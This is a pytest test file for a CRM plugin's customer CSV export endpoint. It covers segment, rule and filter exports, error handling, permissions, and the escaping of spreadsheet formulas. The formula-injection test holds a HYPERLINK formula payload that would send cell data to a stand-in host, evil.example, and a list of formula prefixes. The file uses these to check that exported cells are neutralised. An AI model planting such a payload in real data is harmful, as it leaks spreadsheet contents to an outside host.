import csv
import io
import json
from datetime import timedelta

import pytest

from saleor_crm_plugin.customers.ingest import ingest_orders
from saleor_crm_plugin.sandbox.models import SandboxOrder, SandboxUser
from saleor_crm_plugin.segments import export
from tests.factories import T0, order
from tests.graphql.conftest import make_user

pytestmark = pytest.mark.django_db

URL = "/export/customers.csv"


@pytest.fixture
def buyers(db):
    snapshots = [
        order(
            f"o{i}-{n}", email=f"c{i}@example.com", total="1000", placed_at=T0 + timedelta(days=n)
        )
        for i in range(5)
        for n in range(i + 1)
    ]
    for snapshot in snapshots:
        SandboxOrder.store(snapshot)
    ingest_orders(snapshots)


def _post(client, body, token=None):
    headers = {"HTTP_AUTHORIZATION": f"Bearer {token}"} if token else {}
    return client.post(URL, data=json.dumps(body), content_type="application/json", **headers)


def _rows(response):
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_built_in_segment_is_exported_in_chunks(client, staff_user, buyers, monkeypatch):
    # given: two customers a chunk
    monkeypatch.setattr(export, "CHUNK", 2)

    # when
    response = _post(client, {"segment": "Repeat buyers"}, staff_user.api_token)

    # then
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    chunks = list(response.streaming_content)
    assert len(chunks) == 1 + 2  # the header, then two chunks of two rows
    rows = sorted(csv.DictReader(io.StringIO(b"".join(chunks).decode())), key=lambda r: r["email"])
    assert [r["email"] for r in rows] == [f"c{i}@example.com" for i in range(1, 5)]
    assert rows[0] == {
        "profile_id": rows[0]["profile_id"],
        "user_id": "",
        "email": "c1@example.com",
        "guest": "yes",
        "name": "",
        "country": "",
        "country_area": "",
        "city": "",
        "age": "",
        "gender": "",
        "order_count": "2",
        "first_order_at": T0.isoformat(),
        "last_order_at": (T0 + timedelta(days=1)).isoformat(),
        "total_spent": "JPY 2000",
        "average_order": "JPY 1000",
        "segment": "",
        "rfm": "",
        "p_alive": "",
        "predicted_clv": "",
        "next_order_on": "",
        "overdue": "",
    }


def test_a_rule_is_exported(client, staff_user, buyers):
    # when
    response = _post(
        client, {"rule": {"field": "order_count", "op": "gte", "value": 4}}, staff_user.api_token
    )

    # then
    assert sorted(r["order_count"] for r in _rows(response)) == ["4", "5"]


def test_a_search_result_is_exported_with_the_store_columns(client, staff_user, buyers):
    # given: c4 has an account in Osaka
    user = make_user("c4@example.com")
    SandboxUser.objects.filter(pk=user.pk).update(
        first_name="Ken",
        last_name="Sato",
        country="JP",
        country_area="Osaka",
        city="Osaka",
        metadata={"gender": "male"},
    )
    snapshot = order("c4-account", user_id=str(user.pk), email="c4@example.com", total="500")
    SandboxOrder.store(snapshot)
    ingest_orders([snapshot])

    # when
    response = _post(
        client,
        {"filter": {"numberOfOrders": {"gte": 3}, "lastOrderAt": {"gte": "2020-01-01T00:00:00Z"}}},
        staff_user.api_token,
    )

    # then
    rows = sorted(_rows(response), key=lambda r: r["email"])
    assert [(r["email"], r["order_count"]) for r in rows] == [
        ("c2@example.com", "3"),
        ("c3@example.com", "4"),
        ("c4@example.com", "6"),
    ]
    assert (rows[2]["name"], rows[2]["city"], rows[2]["gender"], rows[2]["guest"]) == (
        "Ken Sato",
        "Osaka",
        "male",
        "no",
    )


def test_a_customer_named_as_a_formula_is_exported_as_text(client, staff_user, buyers):
    # given: customers set their own names in the store
    user = make_user("evil@example.com")
    SandboxUser.objects.filter(pk=user.pk).update(
        first_name='=HYPERLINK("http://evil.example/?"&A1,"x")', last_name="", city="@SUM(A1)"
    )
    snapshot = order("evil-1", user_id=str(user.pk), email="evil@example.com", total="500")
    SandboxOrder.store(snapshot)
    ingest_orders([snapshot])

    # when
    response = _post(client, {"filter": {"numberOfOrders": {"gte": 1}}}, staff_user.api_token)

    # then: the spreadsheet shows the text and runs nothing
    (row,) = [r for r in _rows(response) if r["email"] == "evil@example.com"]
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert row["city"] == "'@SUM(A1)"


@pytest.mark.parametrize(
    ("body", "status", "error"),
    [
        (
            {"rule": {"field": "order_count", "op": "gte"}},
            400,
            {"field": "rule.value", "message": "is required"},
        ),
        (
            {"segment": "Whales"},
            404,
            {"field": "segment", "message": "there is no segment named 'Whales'"},
        ),
        ({}, 400, {"field": "segment", "message": "give a segment name, a rule or a filter"}),
        (
            {"filter": {"numberOfOrders": {"gte": 5, "lte": 1}}},
            400,
            {"field": "filter.numberOfOrders", "message": "gte (5) is greater than lte (1)"},
        ),
        (
            {"filter": {"lastOrderAt": {"gte": "yesterday"}}},
            400,
            {"field": "filter.lastOrderAt.gte", "message": "'yesterday' cannot be read"},
        ),
        (
            {"filter": {"colour": "red"}},
            400,
            {"field": "filter.colour", "message": "is not a customer filter"},
        ),
    ],
    ids=["bad-rule", "unknown-segment", "nothing", "bad-range", "bad-date", "unknown-filter"],
)
def test_bad_export_request_is_refused(client, staff_user, buyers, body, status, error):
    # when
    response = _post(client, body, staff_user.api_token)

    # then
    assert response.status_code == status
    assert response.json() == {"errors": [error]}


def test_customers_and_anonymous_cannot_export(client, buyers):
    # given
    customer = make_user("c1@example.com")

    # when
    as_customer = _post(client, {"segment": "Repeat buyers"}, customer.api_token)
    anonymous = _post(client, {"segment": "Repeat buyers"})

    # then
    assert (as_customer.status_code, anonymous.status_code) == (403, 403)
    assert as_customer.json()["errors"][0]["field"] == "permission"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+81 3", "'+81 3"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Sato =1", "Sato =1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "cr", "inside", "empty", "number", "none"],
)
def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert export.safe_cell(value) == written
